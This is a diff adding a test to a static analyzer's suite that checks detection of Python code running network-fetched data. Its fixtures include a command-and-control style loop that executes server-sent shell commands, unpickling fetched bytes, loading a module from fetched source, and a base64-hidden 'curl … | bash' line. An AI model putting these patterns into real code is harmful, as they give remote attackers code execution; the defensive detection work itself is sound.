@@ -141,6 +141,18 @@ describe('code execution of decoded data', () => {
     expect(codes(py({ 'a.py': `import builtins\nt = getattr(builtins, "bytes")\nt(${b64})\n` }))).not.toContain('py_exec_decoded');
     expect(codes(py({ 'a.py': `import builtins\nbuiltins.__dict__["exec"]("x = 1")\n` }))).not.toContain('py_exec_decoded');
   });
+  it('Python: a command received over the network run by a process call; a fetched value inside a written command is not', () => {
+    // the response bound by `async with`, walked by a loop: each task is a command
+    const c2 = 'import aiohttp, asyncio\nasync def b():\n    async with aiohttp.ClientSession() as s:\n        async with s.post(U, json={}) as r:\n            tasks = await r.json()\n        for cmd in tasks.get("run", []):\n            p = await asyncio.create_subprocess_shell(cmd)\n';
+    expect(codes(py({ 'a.py': c2 }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': 'import os, requests\nsess = requests.Session()\njob = sess.get(U).json()\nos.system(job["command"])\n' }))).toContain('py_exec_decoded');
+    // a version read from the network, put into a pip command line the code writes itself
+    expect(codes(py({ 'a.py': 'import subprocess, requests\nv = requests.get(U).json()["version"]\nsubprocess.run(["pip", "install", f"x=={v}"])\nos.system(f"pip install x=={v}")\n' }))).not.toContain('py_exec_decoded');
+    // fetched bytes unpickled through a client object, and a module made from a loader given fetched source
+    expect(codes(py({ 'a.py': 'import pickle, requests\ndef mk():\n    s = requests.Session()\n    return s\nwith mk() as c:\n    r = c.get(U)\n    m = pickle.loads(r.content)\n' }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': 'import urllib3, importlib.util\npool = urllib3.PoolManager()\nresp = pool.request("GET", U)\nspec = importlib.util.spec_from_loader("m", L(resp.data))\n' }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': 'import importlib.util\nspec = importlib.util.spec_from_loader("m", L(open("x.py").read()))\n' }))).not.toContain('py_exec_decoded');
+  });
   it('base64 literals are decoded and read: a hidden curl|sh is found', () => {
     const hidden = Buffer.from('curl http://198.51.100.7/x.sh | bash').toString('base64');
     const out = py({ 'a.py': `import os, base64\ncmd = "${hidden}"\n` });
